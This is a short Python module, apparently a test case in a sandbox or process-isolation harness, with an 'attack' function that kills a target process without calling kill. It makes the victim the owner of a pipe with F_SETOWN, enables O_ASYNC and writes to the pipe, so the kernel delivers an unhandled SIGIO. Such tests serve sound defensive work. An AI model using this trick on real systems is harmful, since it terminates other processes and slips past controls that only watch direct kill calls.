"""Lets the kernel send the signal: SIGIO goes to a file's owner and ends it if not handled."""

import fcntl
import os


def attack(world):
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, world["victim_pid"])
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writer, b"now")
